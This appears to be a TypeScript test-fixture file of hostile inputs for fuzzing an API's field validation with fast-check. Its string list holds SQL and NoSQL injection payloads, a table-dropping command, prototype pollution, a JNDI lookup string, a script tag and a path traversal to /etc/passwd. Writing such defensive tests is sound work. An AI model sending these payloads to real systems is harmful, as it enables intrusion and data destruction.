import fc from 'fast-check';

// What an attacker or a careless client sends instead of what a field expects (issue 11):
// control and format characters, broken UTF-16, injection payloads, sizes and numbers at and
// beyond the edges of the columns behind the API.

export const LONG_TEXT = 'A'.repeat(100 * 1024);
/** 100 kB of UTF-8 in three-byte characters. */
export const LONG_CJK = '长'.repeat(Math.ceil((100 * 1024) / 3));

export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'nul\u0000inside',
  '\ud800',
  'lone\udc00low',
  'pair\ud83d',
  '\u202eRTL override\u202c',
  'zero\u200bwidth\u200d\ufeff',
  'e\u0301\u0301\u0301\u0301',
  '👨‍👩‍👧‍👦',
  '张三',
  '\r\n\t\u000b\u001f\u007f',
  "' OR '1'='1' --",
  "'; DROP TABLE customer; --",
  '"; SELECT pg_sleep(5); --',
  '%_\\',
  '{"$gt":""}',
  '{"__proto__":{"admin":true}}',
  '__proto__',
  '${jndi:ldap://example.invalid/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '%s%s%s%n',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  'null',
  'undefined',
];

export const HOSTILE_INTS: readonly number[] = [
  0,
  -1,
  2 ** 31 - 1,
  -(2 ** 31),
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 32,
  Number.MAX_SAFE_INTEGER,
  -Number.MAX_SAFE_INTEGER,
  2 ** 53 + 2,
  1.5,
  1e308,
  -1e308,
];

/** Not numbers at all, where a number is expected. */
export const NOT_NUMBERS: readonly unknown[] = ['1', 'NaN', 'Infinity', '', true, null, [], {}];

export const HOSTILE_DATES: readonly string[] = [
  '2026-02-30',
  '2026-12-32',
  '2026-13-01',
  '2026-00-10',
  '2025-02-29',
  '9999-12-31',
  '0000-01-01',
  '0001-01-01',
  '1900-01-01',
  '2026-2-3',
  '20261102',
  '+275760-09-13',
  '2026-11-02T00:00:00Z',
  '２０２６-１１-０２',
];

export const HOSTILE_INSTANTS: readonly string[] = [
  '9999-12-31T23:59:59.999Z',
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00+14:00',
  '2026-02-30T10:00:00Z',
  '2026-12-32T10:00:00+08:00',
  '2026-11-02T24:00:00Z',
  '2026-11-02T23:60:00Z',
  '2026-11-02T10:00:00',
  '2026-11-02T10:00:00+25:00',
  '2026-11-02T10:00:00.123456789Z',
  '1970-01-01T00:00:00Z',
  '2026-11-02',
  '+275760-09-13T00:00:00Z',
];

/** Nesting a list expects one level of, or a scalar expects none of. */
export const deepList = (depth: number, leaf: unknown): unknown =>
  depth === 0 ? leaf : [deepList(depth - 1, leaf)];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 4, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.constantFrom(LONG_TEXT, LONG_CJK) },
);

export const unknownUuid: fc.Arbitrary<string> = fc.uuid();
